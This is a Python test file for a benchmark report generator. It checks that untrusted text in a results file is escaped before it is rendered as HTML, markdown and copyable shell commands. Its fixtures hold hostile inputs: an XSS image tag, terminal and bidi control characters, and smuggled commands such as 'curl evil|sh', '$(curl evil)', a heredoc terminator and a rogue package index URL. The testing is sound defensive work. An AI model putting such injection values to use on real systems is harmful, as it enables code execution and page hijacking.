"""Texts of a benchmark stay texts: no markup, no link, no command, no formula, wherever they are shown or copied."""

import json
import re
import shutil

import pytest

from nnunet_semisam.report.drawing.html_parts import escape
from nnunet_semisam.report.markdown import markdown, plain
from nnunet_semisam.report.page import render
from nnunet_semisam.report.reading.benchmark_folder import read_benchmark

EVIL = "'\"><img src=x onerror=alert(1)> | ![x](http:evil) `\n\x1b[2J\u202e"


@pytest.fixture
def changed_by(folder, tmp_path):
    """Return a function that reads a benchmark of which it has changed results.json."""
    shutil.copytree(folder, tmp_path / "b", ignore=shutil.ignore_patterns("*.nii.gz"))

    def change(function):
        path = tmp_path / "b" / "results.json"
        content = json.loads(path.read_text())
        function(content)
        path.write_text(json.dumps(content))
        return read_benchmark(tmp_path / "b")

    return change


def everywhere(content):
    """Put a hostile text wherever a text is free."""
    for run in content["runs"]:
        run |= {"host": EVIL, "gpu": EVIL, "device": EVIL, "error": EVIL}
        for software in run["software"]:
            software["versions"] = {EVIL: EVIL, "torch": EVIL, "nnunet-semisam": f"1\n{EVIL}\ncurl evil|sh"}
            software["variables"] = {EVIL: EVIL, "A;curl evil;B": "1", "OMP_NUM_THREADS": "1; $(curl evil)"}
            software["sam_fingerprints"] = [EVIL]
    content["versions"] = {EVIL: EVIL, "--index-url=http://evil": "1"}
    content["study"]["settings"] = {EVIL: EVIL, "note": "x\nEND\ncurl evil", "END": [EVIL, {"END": "END"}]}
    content["study"]["device"] = EVIL
    content["study"]["plans_sha256"] = EVIL


def test_a_page_of_hostile_texts_holds_no_markup_of_theirs(changed_by):
    text = render(changed_by(everywhere))
    assert "<img" not in text
    assert text.count("<script>") == 1
    assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069]", text)


def test_commands_that_readers_copy_hold_none_of_others(changed_by):
    text = render(changed_by(everywhere)).split('<section id="repeat">')[1]
    lines = text.split("<pre")[1].split("</pre>")[0].splitlines()
    assert not [line for line in lines if line.startswith(("curl", "'", "export A;", "END\n"))]
    assert "export OMP_NUM_THREADS=&#x27;1; $(curl evil)&#x27;" in lines
    assert not any("--index-url" in line and not line.startswith("#") for line in lines)
    begin = next(i for i, line in enumerate(lines) if line.startswith("cat &gt; settings.yaml"))
    ends = [i for i, line in enumerate(lines) if line == "END"]
    assert len(ends) == 1
    assert begin < ends[0]
    assert lines[ends[0] + 1].startswith("nnunet-semisam benchmark ")


def test_a_table_in_markdown_keeps_its_rows_and_columns(changed_by):
    text = markdown(changed_by(lambda content: content["study"].update(dataset="D <img src=x> ![a](http:b) | c")))
    assert "<img" not in text
    assert "](http:" not in text
    assert plain(f"a{EVIL}b").count("\n") == 0
    assert plain("a\\|b") == "a\\\\|b"
    assert plain("p < 0.001, 1.0 [0.5, 2.0]") == "p < 0.001, 1.0 [0.5, 2.0]"


def test_what_cannot_be_printed_is_written_as_an_escape():
    assert escape("a\x1b[2J\u202e\ud800\x00 b\n\tc") == "a\\x1b[2J\\u202e\\ud800\\x00 b\n    c"
    assert escape("<'\">") == "&lt;&#x27;&quot;&gt;"
